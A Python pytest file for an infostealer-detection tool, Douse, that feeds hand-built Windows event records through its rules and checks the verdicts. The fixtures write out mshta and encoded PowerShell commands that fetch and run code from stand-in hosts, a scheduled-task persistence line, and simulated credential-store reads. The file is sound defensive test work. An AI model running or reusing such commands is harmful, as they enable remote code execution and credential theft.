"""The worked examples of the threat model (3.6), each on a host of its own: records in, what Douse says of them out.

All but W9 go the whole way, from a file of records through our rules, because that is what somebody will do who checks
them. The records are written by hand after what such logs hold. W9 has no records yet: static findings come as alerts.
"""

from __future__ import annotations

import json
from collections import defaultdict
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

import builders as b
from builders import Process
from douse import api
from douse.hunt.options import HuntOptions
from douse.incident.correlate import correlate
from douse.model import Event, Incident, Value, level_rank
from incident.stories import (
    CHROME_STORE,
    EXODUS_STORE,
    FIREFOX_STORE,
    MSHTA,
    OPERA_STORE,
    POWERSHELL,
    REGASM,
    SERVER,
    ids,
    letters,
)

DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
FIREFOX = "C:\\Program Files\\Mozilla Firefox\\firefox.exe"
SERVICES = b.process("C:\\Windows\\System32\\services.exe", 700, -9000, user=b.SYSTEM)
SHELL = b.explorer()

Example = Callable[[], list[Event]]
Found = dict[str, list[Incident]]


def w1() -> list[Event]:
    """Nothing but 4663: a program that looks like Chrome, in a user's folder, reads three browsers."""
    thief = b.process("C:\\Users\\anna\\AppData\\Roaming\\Chrome\\chrome.exe", 500, 0, SHELL)
    return [b.store_read(thief, n, path) for n, path in enumerate((CHROME_STORE, FIREFOX_STORE, OPERA_STORE))]


def w2() -> list[Event]:
    """Sysmon: mshta with a URL, two connections, a task that starts mshta with a URL again."""
    mshta = b.process(MSHTA, 500, 1, b.process("C:\\Windows\\System32\\cmd.exe", 400, 0, SHELL),
                      "mshta.exe https://files.example/run.hta")
    task = b.process("C:\\Windows\\System32\\schtasks.exe", 600, 3, mshta,
                     'schtasks /Create /SC MINUTE /MO 60 /TN upd /TR "mshta https://files.example/run.hta"')
    return [b.process_start(mshta), b.connection(mshta, 2, SERVER), b.connection(mshta, 2.5, SERVER, 80),
            b.process_start(task)]


def w3() -> list[Event]:
    """A remote-control tool types `cmd.exe` and `notepad.exe` into the Run dialog."""
    tool = b.process("C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe", 500, 0, SERVICES)
    return [b.run_dialog(tool, 0, "cmd.exe"), b.run_dialog(tool, 5, "notepad.exe")]


def w4() -> list[Event]:
    """The vault: backed up (5376), listed (5379), searched (5381) and one web password read (5382)."""
    def record(event_id: int, seconds: float, **more: str) -> Event:
        return b.event(b.SECURITY, event_id, seconds, {
            "SubjectUserSid": b.ANNA.sid, "SubjectUserName": "anna", "SubjectDomainName": "CORP",
            "SubjectLogonId": hex(b.ANNA.logon), **more})
    client = {"ClientProcessId": "5120", "ProcessCreationTime": b.at(-60).isoformat()}
    return [
        record(5376, 100),
        record(5379, 0, TargetName="MicrosoftAccount:user=anna", Type="0", CountOfCredentialsReturned="1",
               ReadOperation="%%8100", ReturnCode="0", **client),
        record(5381, 1, Flags="0", CountOfCredentialsReturned="2", **client),
        record(5382, 1.2, SchemaFriendlyName="Windows Web Password Credential",
               Schema="{3CCD5499-87A8-4B10-A215-608888DD3B55}", Resource="https://login.live.com/",
               Identity="anna@example.com", PackageSid="-", Flags="0", ReturnCode="0", **client)]


def w5(audit: bool = True) -> list[Event]:
    """A Lumma-like chain: pasted mshta, PowerShell, injected RegAsm, dead drop, three stores, one connection."""
    mshta = b.process(MSHTA, 5000, 0, SHELL, f'"{MSHTA}" https://verify.example/a.mp3 # I am not a robot')
    power = b.process(POWERSHELL, 5004, 3, mshta, "powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACkA")
    regasm = b.process(REGASM, 5008, 9, power, f'"{REGASM}"')
    used = [b.process_start(b.process(image, pid, -600, SHELL)) for image, pid in ((CHROME, 4900), (FIREFOX, 4904))]
    reads = [b.store_read(regasm, 15 + n, path)
             for n, path in enumerate((CHROME_STORE, FIREFOX_STORE, EXODUS_STORE))]
    return [
        *used, b.run_dialog(SHELL, 0.4, "mshta https://verify.example/a.mp3 # I am not a robot"),
        b.process_start(mshta),
        b.connection(mshta, 1, "198.51.100.23", 443, "verify.example"), b.process_start(power), b.process_start(regasm),
        b.image_replaced(regasm, 9.5), b.dns_query(regasm, 12, "t.me", "::ffff:149.154.167.99;"),
        b.connection(regasm, 12.2, "149.154.167.99", 443, "t.me"), *(reads if audit else ()),
        b.connection(regasm, 20, SERVER)]


def w7() -> list[Event]:
    """First-run import, synchronised profile, browser under test, scan, backup."""
    firefox = b.process(FIREFOX, 510, 0, SHELL)
    onedrive = b.process("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", 520, 0, SHELL)
    node = b.process("C:\\Program Files\\nodejs\\node.exe", 530, 0, SHELL, "node playwright test")
    local = "C:\\Users\\anna\\AppData\\Local\\"
    tested = b.process(f"{local}ms-playwright\\chromium-1140\\chrome-win\\chrome.exe", 531, 1, node,
                       "chrome.exe --headless --remote-debugging-pipe "
                       f"--user-data-dir={local}Temp\\playwright_chromiumdev_profile-a1")
    scan = b.process("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", 540, 0,
                     SERVICES)
    backup = b.process("C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe", 550, 0, SERVICES)
    events = []
    for ran in (firefox, onedrive, node, tested, scan, backup):
        events += [b.process_start(ran), b.connection(ran, ran.seconds + 6, SERVER)]
    return [*events, b.store_read(firefox, 3, CHROME_STORE), b.store_read(onedrive, 4, CHROME_STORE),
            *(b.store_read(ran, 5 + n, path) for ran in (scan, backup)
              for n, path in enumerate((CHROME_STORE, FIREFOX_STORE, EXODUS_STORE)))]


def verdict(seconds: float, event_id: int, **more: str) -> Event:
    """A record of Defender about a stealer in a download."""
    fields: dict[str, Value] = {
        "DetectionID": "{5C1E7A1B-9A8B-4B0E-9B40-0F6B0F2C4D11}", "ThreatName": "Trojan:Win32/LummaStealer.RPX!MTB",
        "Path": "file:_C:\\Users\\anna\\Downloads\\Setup.exe", "ProcessName": "Unknown", "DetectionUser": "CORP\\anna"}
    return b.event(DEFENDER, event_id, seconds, fields | more)


def w8() -> list[Event]:
    """Defender names a stealer and quarantines it before anything of it ran."""
    return [verdict(0, 1116), verdict(4, 1117, ActionID="2", ActionName="Quarantine", ErrorCode="0x00000000")]


EXAMPLES: dict[str, Example] = {
    "w1": w1, "w2": w2, "w3": w3, "w4": w4, "w5": w5, "w6": lambda: w5(audit=False), "w7": w7, "w8": w8}


def lines(host: str, events: list[Event]) -> Iterator[str]:
    for one in events:
        yield json.dumps({"Event": {
            "System": {"Provider": {"#attributes": {"Name": one.provider}}, "EventID": one.event_id,
                       "TimeCreated": {"#attributes": {"SystemTime": one.time.isoformat()}},
                       "EventRecordID": one.record_id, "Channel": one.channel, "Computer": host},
            "EventData": dict(one.fields)}})


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> Found:
    """The incidents of each example, worst first."""
    path: Path = tmp_path_factory.mktemp("examples") / "records.jsonl"
    path.write_text("\n".join(line for name, make in EXAMPLES.items() for line in lines(name, make())) + "\n",
                    encoding="utf-8")
    incidents: Found = defaultdict(list)
    for incident in api.hunt(HuntOptions(paths=(str(path),))).incidents:
        incidents[incident.host].append(incident)
    return incidents


def only(found: Found, name: str) -> Incident:
    assert len(found[name]) == 1, [i.verdict for i in found[name]]
    return found[name][0]


def told(incident: Incident) -> str:
    return f"{incident.title} {incident.verdict}"


def test_w1_reads_alone_are_high_and_never_critical(found: Found) -> None:
    incident = only(found, "w1")
    assert (incident.level, ids(incident), letters(incident)) == ("high", {"S4"}, "C")
    assert incident.sequences[0].reason.endswith("accessed stores of kind chromium, gecko within 60 s")
    assert "Held" not in incident.level_reason


def test_w1_says_what_was_seen_and_what_is_unknown(found: Found) -> None:
    incident = only(found, "w1")
    observed = {one.product: one for one in incident.stores if one.state == "observed"}
    assert {name for name in ("Chrome", "Opera", "Firefox") if any(name in product for product in observed)} == {
        "Chrome", "Opera", "Firefox"}
    assert any("sessions" in unseen for one in observed.values() for unseen in one.unseen)
    assert incident.family == "unattributed infostealer"


def test_w2_mshta_on_the_network_is_high_and_claims_no_theft(found: Found) -> None:
    incident = only(found, "w2")
    assert (incident.level, letters(incident)) == ("high", "XRP")
    assert "S2" in ids(incident)
    assert "accessed" not in told(incident)
    assert "theft cannot be excluded" in incident.verdict


def test_w3_harmless_run_entries_are_no_incident(found: Found) -> None:
    assert [i for i in found["w3"] if i.score > 2] == []


def test_w4_the_vault_alone_is_medium(found: Found) -> None:
    incident = only(found, "w4")
    assert (incident.level, letters(incident), ids(incident)) == ("medium", "C", set())
    assert "a backup of Credential Manager lifts it to medium" in incident.level_reason


def test_w4_names_what_to_change(found: Found) -> None:
    entries = [entry for i in found["w4"] for row in i.rotation for entry in row.entries]
    assert any("https://login.live.com/" in entry for entry in entries)


def test_w5_the_whole_chain_is_critical(found: Found) -> None:
    incident = only(found, "w5")
    assert incident.level == "critical"
    assert ids(incident) == {"S1", "S2", "S3", "S4", "S5", "S6"}
    assert incident.score == pytest.approx(
        sum(c.points for c in incident.classes) + sum(h.bonus for h in incident.sequences))


def test_w5_is_attributed_to_nobody(found: Found) -> None:
    attribution = only(found, "w5").attribution
    assert attribution is not None
    assert (attribution.family, attribution.confidence) == ("unattributed infostealer", "low")
    assert {"Lumma", "Vidar", "StealC"} <= {name.split(" ")[0] for name in attribution.consistent_with}


def test_w6_the_same_without_an_audit_is_high_and_presumed_stolen(found: Found) -> None:
    incident = only(found, "w6")
    assert (incident.level, "S7" in ids(incident)) == ("high", True)
    assert incident.title.startswith("Probable infostealer")
    assert any("4663" in spot.events for spot in incident.blind_spots)


def test_w6_presumes_the_stores_stolen(found: Found) -> None:
    states = {one.state for one in only(found, "w6").stores}
    assert "presumed" in states
    assert "observed" not in states


def test_w7_ordinary_software_is_at_most_low(found: Found) -> None:
    assert [i.verdict for i in found["w7"] if level_rank(i.level) > level_rank("low")] == []


def test_w8_quarantined_before_it_ran_is_medium(found: Found) -> None:
    incident = only(found, "w8")
    assert (incident.level, ids(incident), letters(incident)) == ("medium", {"S8"}, "V")
    assert "removed" in incident.sequences[0].title


def test_w8_is_attributed_by_the_vendors_label_only(found: Found) -> None:
    attribution = only(found, "w8").attribution
    assert attribution is not None
    assert "Lumma" in attribution.family
    assert attribution.confidence == "medium"


def test_w9_what_an_autoit_runtime_can_do_is_no_incident_above_info() -> None:
    """The techniques that static analysis finds in any AutoIt program, as findings of class V that guess."""
    stub = b.event("Douse/static", 0, 0, {"TargetFilename": "C:\\samples\\stub.exe"})
    alerts = [b.alert(stub, "V", f"Can do {technique}", "informational", role="static", fidelity=0.4,
                      techniques=(technique,)) for technique in ("T1010", "T1012", "T1112", "T1115", "T1129")]
    incidents = correlate(alerts, b.facts_of([]).host(b.HOST), b.coverage_of([]))
    assert {(i.level, i.score) for i in incidents} == {("informational", 12)}


def test_w10_ten_minutes_between_two_clocks_join_the_same_connection(tmp_path: Path) -> None:
    """The rest of W10 is in tests/hunt/test_network_join.py: with a narrow skew nothing joins."""
    process: Process = b.process(REGASM, 5008, 9, SHELL)
    connection = b.connection(process, 20, SERVER)
    connection.fields.update(SourcePort="50122")
    events = [b.process_start(process), b.store_read(process, 15, CHROME_STORE),
              b.store_read(process, 16, FIREFOX_STORE), connection]
    log = tmp_path / "endpoint.jsonl"
    log.write_text("\n".join(lines(b.HOST, events)) + "\n", encoding="utf-8")
    seconds = b.at(620).timestamp()
    (tmp_path / "conn.log").write_text(json.dumps({
        "_path": "conn", "ts": seconds, "uid": "C1", "id.orig_h": "10.0.0.15", "id.orig_p": 50122, "id.resp_h": SERVER,
        "id.resp_p": 443, "proto": "tcp", "service": "ssl", "duration": 1.0, "orig_bytes": 250_000, "resp_bytes": 900,
        "conn_state": "SF"}) + "\n", encoding="utf-8")
    for skew, upload in ((600.0, True), (2.0, False)):
        incident = api.hunt(HuntOptions(paths=(str(tmp_path),), clock_skew=skew)).incidents[0]
        assert ("250,000 bytes sent" in incident.verdict) == upload
